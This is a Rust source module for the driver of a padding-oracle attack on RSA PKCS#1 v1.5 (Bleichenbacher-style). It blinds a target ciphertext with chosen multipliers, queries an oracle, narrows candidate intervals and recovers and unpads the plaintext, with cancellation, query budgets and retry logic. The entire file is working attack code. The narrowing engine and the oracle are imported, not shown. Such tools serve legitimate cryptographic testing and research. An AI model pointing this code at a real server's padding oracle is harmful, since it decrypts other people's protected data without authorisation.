use alloc::sync::Arc;
use alloc::vec::Vec;
use core::sync::atomic::{AtomicBool, Ordering};

use num::bigint::BigUint;
use num::One;

use crate::engine::{NarrowingEngine, PhaseKind, Transition};
use crate::error::{Error, Result};
use crate::interval::IntervalSet;
use crate::key::PublicKey;
use crate::oracle::{PaddingOracle, Response};
use crate::pkcs1;

/// Search policy knobs
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SearchConfig {
    /// Times an inconclusive query is repeated before giving up, 0 aborts on the first one
    pub inconclusive_retries: u32,
    /// Hard cap on the number of oracle queries
    pub query_budget: Option<u64>,
    /// Query the unblinded target first and fail if it is not conformant
    pub check_target: bool,
}

impl SearchConfig {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn with_inconclusive_retries(mut self, retries: u32) -> Self {
        self.inconclusive_retries = retries;
        self
    }

    pub fn with_query_budget(mut self, budget: u64) -> Self {
        self.query_budget = Some(budget);
        self
    }

    pub fn with_check_target(mut self, check: bool) -> Self {
        self.check_target = check;
        self
    }
}

/// Shared cancellation flag
///
/// Clones observe the same flag, so a token handed to another thread (or a
/// signal handler) stops the search it was taken from.
#[derive(Clone, Debug, Default)]
pub struct CancelToken(Arc<AtomicBool>);

impl CancelToken {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn cancel(&self) {
        self.0.store(true, Ordering::SeqCst);
    }

    pub fn is_cancelled(&self) -> bool {
        self.0.load(Ordering::SeqCst)
    }
}

/// One answered query, handed to the progress callback
#[derive(Clone, Copy, Debug)]
pub struct Progress<'a> {
    /// Queries issued so far, this one included
    pub iteration: u64,
    pub phase: PhaseKind,
    pub multiplier: &'a BigUint,
    pub response: Response,
    /// Ranges held before the response is applied
    pub intervals: usize,
}

/// A converged search
#[derive(Clone, Debug, PartialEq)]
pub struct Recovery {
    pub plaintext: BigUint,
    /// The plaintext as a k-byte block
    pub block: Vec<u8>,
    pub iterations: u64,
}

impl Recovery {
    /// Strip the PKCS#1 v1.5 padding off the recovered block
    ///
    /// errors: Error::PaddingStructure when the block is not conformant,
    /// meaning the oracle leaked something other than PKCS#1 conformance
    pub fn message(&self) -> Result<&[u8]> {
        pkcs1::unpad(&self.block).map_err(Error::from)
    }
}

/// Search state when a run stops before converging
#[derive(Clone, Debug, PartialEq)]
pub struct Snapshot {
    pub iterations: u64,
    pub phase: PhaseKind,
    /// Ranges still holding the plaintext, empty before the first conformant hit
    pub intervals: IntervalSet,
}

/// How a search ended
#[derive(Clone, Debug, PartialEq)]
pub enum Outcome {
    Recovered(Recovery),
    /// Stopped through [`SearchController::stop`] or a [`CancelToken`]
    Cancelled(Snapshot),
    /// The query budget ran out
    Exhausted(Snapshot),
}

impl Outcome {
    pub fn recovery(&self) -> Option<&Recovery> {
        match self {
            Outcome::Recovered(r) => Some(r),
            _ => None,
        }
    }

    pub fn iterations(&self) -> u64 {
        match self {
            Outcome::Recovered(r) => r.iterations,
            Outcome::Cancelled(s) | Outcome::Exhausted(s) => s.iterations,
        }
    }
}

// Result of asking the oracle about one ciphertext
enum Answer {
    Decided(Response),
    Cancelled,
    Exhausted,
}

/// Drives a [`NarrowingEngine`] against a padding oracle
///
/// Queries are strictly sequential, each answer picks the next multiplier.
/// A controller can run any number of searches one after another, but once
/// stopped it stays stopped.
#[derive(Debug, Default)]
pub struct SearchController {
    config: SearchConfig,
    cancel: CancelToken,
}

impl SearchController {
    pub fn new(config: SearchConfig) -> Self {
        Self {
            config,
            cancel: CancelToken::new(),
        }
    }

    pub fn config(&self) -> &SearchConfig {
        &self.config
    }

    /// Handle for stopping the search from elsewhere
    pub fn cancel_token(&self) -> CancelToken {
        self.cancel.clone()
    }

    /// Request cancellation, observed before the next oracle query
    pub fn stop(&self) {
        self.cancel.cancel();
    }

    /// Recover the plaintext integer of c0
    ///
    /// Every oracle query counts as one iteration, inconclusive ones and the
    /// optional target check included. `progress` is called after each query.
    ///
    /// errors:
    /// - Error::Configuration when c0 is not below the modulus
    /// - Error::TargetNotConformant when the target check fails
    /// - Error::OracleInconclusive when retries run out
    /// - Error::InvariantViolation when the oracle contradicts itself
    #[tracing::instrument(name = "search", skip_all, fields(k = key.k()))]
    pub fn start<O, F>(
        &self,
        c0: &BigUint,
        key: &PublicKey,
        oracle: &O,
        mut progress: F,
    ) -> Result<Outcome>
    where
        O: PaddingOracle + ?Sized,
        F: FnMut(&Progress<'_>),
    {
        key.check_ciphertext(c0)?;

        let mut engine = NarrowingEngine::new(key);
        let mut iterations = 0_u64;

        if self.config.check_target {
            let one = BigUint::one();
            let answer = self.ask(c0, &one, &engine, oracle, &mut iterations, &mut progress)?;
            match answer {
                Answer::Decided(Response::Conformant) => {
                    tracing::debug!("target ciphertext is conformant");
                }
                Answer::Decided(_) => return Err(Error::TargetNotConformant),
                Answer::Cancelled => return Ok(self.cancelled(&engine, iterations)),
                Answer::Exhausted => return Ok(self.exhausted(&engine, iterations)),
            }
        }

        while let Some(s) = engine.next_multiplier() {
            let s = s.clone();
            let c = key.blind(c0, &s);

            let response = match self.ask(&c, &s, &engine, oracle, &mut iterations, &mut progress)? {
                Answer::Decided(response) => response,
                Answer::Cancelled => return Ok(self.cancelled(&engine, iterations)),
                Answer::Exhausted => return Ok(self.exhausted(&engine, iterations)),
            };

            match engine.observe(response) {
                Ok(Transition::Narrowed { count }) => {
                    tracing::debug!(multiplier = %s, intervals = count, "narrowed");
                }
                Ok(_) => (),
                Err(err) => {
                    tracing::error!(
                        multiplier = %s,
                        iteration = iterations,
                        intervals = %engine.intervals(),
                        "conformant response contradicts earlier responses"
                    );
                    return Err(err);
                }
            }
        }

        let plaintext = engine
            .plaintext()
            .cloned()
            .ok_or_else(|| Error::InvariantViolation {
                multiplier: BigUint::one(),
            })?;
        tracing::info!(iterations, plaintext = %plaintext, "converged");

        Ok(Outcome::Recovered(Recovery {
            block: key.to_block(&plaintext),
            plaintext,
            iterations,
        }))
    }

    // Query until the oracle gives a decisive answer or the run has to stop
    fn ask<O, F>(
        &self,
        c: &BigUint,
        s: &BigUint,
        engine: &NarrowingEngine,
        oracle: &O,
        iterations: &mut u64,
        progress: &mut F,
    ) -> Result<Answer>
    where
        O: PaddingOracle + ?Sized,
        F: FnMut(&Progress<'_>),
    {
        let mut attempts = 0_u32;
        loop {
            if self.cancel.is_cancelled() {
                return Ok(Answer::Cancelled);
            }
            if let Some(budget) = self.config.query_budget {
                if *iterations >= budget {
                    return Ok(Answer::Exhausted);
                }
            }

            let response = oracle.query(c);
            *iterations += 1;
            attempts += 1;
            tracing::trace!(iteration = *iterations, multiplier = %s, ?response, "query");

            progress(&Progress {
                iteration: *iterations,
                phase: engine.phase().kind(),
                multiplier: s,
                response,
                intervals: engine.intervals().count(),
            });

            if !response.is_inconclusive() {
                return Ok(Answer::Decided(response));
            }

            if attempts > self.config.inconclusive_retries {
                return Err(Error::OracleInconclusive {
                    iteration: *iterations,
                    attempts,
                });
            }
            tracing::warn!(iteration = *iterations, multiplier = %s, attempts, "inconclusive response, retrying");
        }
    }

    fn cancelled(&self, engine: &NarrowingEngine, iterations: u64) -> Outcome {
        tracing::info!(iterations, intervals = %engine.intervals(), "search cancelled");
        Outcome::Cancelled(snapshot(engine, iterations))
    }

    fn exhausted(&self, engine: &NarrowingEngine, iterations: u64) -> Outcome {
        tracing::info!(iterations, intervals = %engine.intervals(), "query budget exhausted");
        Outcome::Exhausted(snapshot(engine, iterations))
    }
}

fn snapshot(engine: &NarrowingEngine, iterations: u64) -> Snapshot {
    Snapshot {
        iterations,
        phase: engine.phase().kind(),
        intervals: engine.intervals().clone(),
    }
}
